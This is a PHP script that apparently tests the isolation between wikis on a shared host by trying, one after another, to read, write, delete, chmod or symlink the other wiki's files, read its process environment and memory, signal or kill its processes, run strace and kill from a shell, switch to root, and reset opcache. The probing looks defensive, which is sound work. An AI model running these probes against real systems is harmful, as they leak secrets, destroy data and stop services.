// What the code of a wiki tries against another one. Prints what worked. `$paths` and `$processes` are the other one's,
// `$known` are those whose being there is no secret, `$own` is a directory that this one may write to. No way in is left
// out because another one is closed.
$got = [];
$try = static function (string $what, callable $attack) use (&$got): void {
    try {
        $result = @$attack();
    } catch (Throwable $error) {
        $result = false;
    }
    if ($result !== false && $result !== null && $result !== '' && $result !== []) {
        $got[] = "$what: " . substr(json_encode($result, JSON_PARTIAL_OUTPUT_ON_ERROR) ?: '?', 0, 200);
    }
};
foreach ($paths as $number => $path) {
    foreach (
        [
            'file_get_contents', 'file', 'fopen', 'scandir', 'opendir', 'glob', 'stat', 'lstat', 'is_readable', 'is_writable',
            'file_exists', 'realpath', 'readlink', 'md5_file', 'sha1_file', 'php_strip_whitespace', 'parse_ini_file',
            'getimagesize', 'mime_content_type', 'simplexml_load_file', 'finfo_file', 'opcache_compile_file',
            'opcache_is_script_cached', 'opcache_invalidate', 'unlink', 'rmdir', 'touch', 'is_link',
            'gzfile', 'exif_read_data',
        ] as $function
    ) {
        $tells = in_array($function, ['stat', 'lstat', 'file_exists', 'realpath', 'glob'], true);
        if (function_exists($function) && !($tells && in_array($path, $known, true))) {
            $try("$function $path", static fn () => $function($path));
        }
    }
    $try("include $path", static fn () => (static fn () => include $path)());
    $try("filter $path", static fn () => file_get_contents("php://filter/read=convert.base64-encode/resource=$path"));
    $try("file: $path", static fn () => file_get_contents("file://$path"));
    $tells = in_array($path, $known, true);
    $tells || $try("glob: $path", static fn () => iterator_to_array(new DirectoryIterator("glob://$path*")));
    $try("phar: $path", static fn () => file_get_contents("phar://$path/x"));
    $try("compress: $path", static fn () => file_get_contents("compress.zlib://$path"));
    $try("SplFileObject $path", static fn () => (new SplFileObject($path))->fgets());
    $try("hash_file $path", static fn () => hash_file('md5', $path));
    $try("highlight_file $path", static fn () => highlight_file($path, true));
    $try("copy $path", static fn () => copy($path, "$own/copy$number"));
    $try("rename $path", static fn () => rename($path, "$own/renamed$number"));
    $try("link $path", static fn () => link($path, "$own/link$number"));
    $try("chmod $path", static fn () => chmod($path, 0777));
    $try("chown $path", static fn () => chown($path, posix_geteuid()));
    $try("write $path", static fn () => file_put_contents($path, 'x', FILE_APPEND));
    $try("make in $path", static fn () => file_put_contents("$path/made", 'x'));
    $try("mkdir $path", static fn () => mkdir("$path/made"));
    $try("symlink and read $path", static function () use ($path, $own, $number) {
        @unlink("$own/symlink$number");
        symlink($path, "$own/symlink$number");
        return file_get_contents("$own/symlink$number");
    });
    $try("sqlite $path", static function () use ($path) {
        $options = [PDO::SQLITE_ATTR_OPEN_FLAGS => PDO::SQLITE_OPEN_READONLY];
        $database = new PDO("sqlite:$path", null, null, $options);
        return $database->query('SELECT * FROM sqlite_master')->fetchAll() ?: 'opened';
    });
    $try("shell $path", static fn () => shell_exec('cat ' . escapeshellarg($path) . ' 2>/dev/null'));
    $try("fopen for write $path", static fn () => is_resource(fopen($path, 'c+')));
}
foreach ($processes as $process) {
    foreach (['environ', 'mem', 'maps', 'smaps', 'auxv', 'stack', 'io', 'syscall', 'pagemap', 'cwd/.', 'root/.', 'fd', 'map_files'] as $file) {
        $try("/proc/$process/$file", static fn () => is_dir("/proc/$process/$file")
            ? scandir("/proc/$process/$file")
            : file_get_contents("/proc/$process/$file", false, null, 0, 64));
    }
    $try("links of $process", static fn () => array_filter([@readlink("/proc/$process/exe"), @readlink("/proc/$process/cwd")]));
    $try("write to mem of $process", static fn () => fopen("/proc/$process/mem", 'r+'));
    $try("oom of $process", static fn () => file_put_contents("/proc/$process/oom_score_adj", '1000'));
    // SIGCONT may be sent to all of a session, and does nothing to what runs.
    foreach ([0, 19, 15, 9] as $signal) {
        $try("signal $signal to $process", static fn () => posix_kill($process, $signal));
    }
    foreach (["kill -STOP $process && echo stopped", "renice 19 $process", "timeout 2 strace -qq -o $own/trace -p $process & sleep .2; kill \$! && test -s $own/trace && echo traced", "prlimit --pid $process --cpu=1:1 && echo limited", "cat /proc/$process/environ"] as $command) {
        $try($command, static fn () => shell_exec("($command) 2>/dev/null"));
    }
}
foreach ([0, 1, 33, $uid] as $number) {
    $try("setuid $number", static fn () => posix_setuid($number));
    $try("seteuid $number", static fn () => posix_seteuid($number));
    $try("setgid $number", static fn () => posix_setgid($number));
    $try("setegid $number", static fn () => posix_setegid($number));
    $try("initgroups $number", static fn () => posix_initgroups('root', $number));
}
// Who can write to its own memory can write to that which all share, and to code that others run.
$try('write to own memory', static fn () => fopen('/proc/self/mem', 'r+'));
$parent = getmypid();
$try('write to own memory from outside', static fn () => shell_exec("(exec 3<>/proc/$parent/mem && echo opened) 2>/dev/null"));
preg_match_all('/^Cap(?:Eff|Prm|Inh|Amb):\s*(\S+)$/m', (string)@file_get_contents('/proc/self/status'), $found);
foreach ($found[1] as $capabilities) {
    if (trim($capabilities, '0') !== '') {
        $got[] = "capabilities $capabilities";
    }
}
$try('opcache_get_status', static fn () => opcache_get_status());
$try('opcache_get_configuration', static fn () => opcache_get_configuration());
$try('opcache_reset', static fn () => opcache_reset());
$try('apcu', static fn () => function_exists('apcu_store') && apcu_store('key', 'value'));
$try('dl', static fn () => function_exists('dl') && dl('ffi.so'));
$try('FFI', static fn () => class_exists('FFI') && FFI::cdef('int getpid(void);', 'libc.so.6')->getpid());
foreach (['opcache.validate_permission' => '0', 'opcache.restrict_api' => '', 'session.save_path' => '/tmp', 'opcache.enable' => '0'] as $setting => $value) {
    if ($setting !== 'opcache.enable') {
        $try("ini_set $setting", static fn () => ini_set($setting, $value));
    }
}
foreach ($sockets as $socket) {
    $try("socket $socket", static fn () => is_resource(stream_socket_client("unix://$socket", $n, $m, 2)));
}
echo json_encode($got);
